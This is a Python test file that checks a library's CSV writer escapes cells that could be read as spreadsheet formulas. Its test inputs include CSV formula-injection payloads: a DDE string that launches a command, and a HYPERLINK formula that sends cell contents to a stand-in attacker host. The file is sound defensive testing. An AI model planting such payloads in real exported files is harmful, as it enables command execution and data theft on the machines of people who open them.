"""Cells of a CSV: no text becomes a formula, and numbers stay numbers."""

import csv
import io

import pytest

from hfkit.cli.predict import Format, Layout, format_rows
from hfkit.runtime.formulas import escape_formula

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "＝1+1",
    "-cmd|' /C calc'!A0",
]
FORMULAS += ['=HYPERLINK("http://evil.example?"&A1)', "+49 170 1", "-", "--", "- a point", "@someone", "\tin"]
HARMLESS = ["", "a=b", "3", "-3.2", "+3", "-1e-5", "-.5", "+12%", "'=1", "1-1", "a\n=1", "née", " text"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_gets_a_mark(text):
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays(text):
    assert escape_formula(text) == text


def test_every_text_of_a_csv_is_escaped_names_of_columns_too_and_numbers_are_not():
    records = [{"=name": text, "score": -3.2, "several": ["=1"]} for text in FORMULAS]
    columns = list(records[0])
    written = list(csv.reader(io.StringIO(format_rows(records, Layout(Format.csv), columns, header=True), newline="")))
    assert written[0] == ["'=name", "score", "several"]
    assert written[1:] == [[f"'{text}", "-3.2", '["=1"]'] for text in FORMULAS]
    plain = format_rows(records, Layout(Format.csv, escape=False), columns, header=True)
    assert [row[0] for row in csv.reader(io.StringIO(plain, newline=""))] == ["=name", *FORMULAS]
    assert "'" not in format_rows([{"a": "=1"}], Layout(Format.jsonl), [], header=False)
